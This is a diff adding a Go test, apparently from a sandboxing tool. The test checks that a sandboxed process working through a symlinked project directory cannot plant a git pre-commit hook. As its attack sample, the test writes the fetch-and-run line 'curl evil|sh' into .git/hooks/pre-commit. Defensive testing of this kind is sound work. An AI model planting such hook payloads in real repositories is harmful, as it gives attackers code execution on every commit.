@@ -83,6 +83,38 @@ func TestGitMissingHooks(t *testing.T) {
 	}
 }
 
+// TestGitMissingHooksLinkedWorkdir: the same with the project reached
+// through a symlink of the user's (cd /var/tmp/link/proj, link -> real;
+// Fedora's /home -> /var/home) and given as --allow-write .: the hooks
+// dir is made and held where the link leads.
+func TestGitMissingHooksLinkedWorkdir(t *testing.T) {
+	for _, u := range users {
+		t.Run(u.name, func(t *testing.T) {
+			w := newWorld(t, u)
+			base := filepath.Dir(w.home)
+			real := filepath.Join(base, "real")
+			mustMkdir(t, real)
+			if err := os.Symlink(real, filepath.Join(base, "link")); err != nil {
+				t.Fatal(err)
+			}
+			c := exec.Command("git", "init", "-q", "proj")
+			c.Dir = real
+			if out, err := c.CombinedOutput(); err != nil {
+				t.Fatalf("git init: %v\n%s", err, out)
+			}
+			os.RemoveAll(filepath.Join(real, "proj", ".git", "hooks"))
+			chownTree(t, real, u)
+			// PWD as a shell sets it after cd: the working directory as named.
+			w.dir = filepath.Join(base, "link", "proj")
+			r := w.runEnv([]string{"PWD=" + w.dir}, "--allow-write", ".", "--",
+				"/bin/sh", "-c", "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit")
+			if w.exists(filepath.Join(real, "proj", ".git", "hooks", "pre-commit")) {
+				t.Errorf("the program planted .git/hooks/pre-commit through the linked workdir; exit %d, stderr %q", r.code, r.stderr)
+			}
+		})
+	}
+}
+
 // TestNestedRootMovedAside: with a project given as --allow-write inside
 // the data dir, the directories between the two roots cannot be renamed
 // either (mv ~/.omega/workspace w2, then a new workspace/proj with its
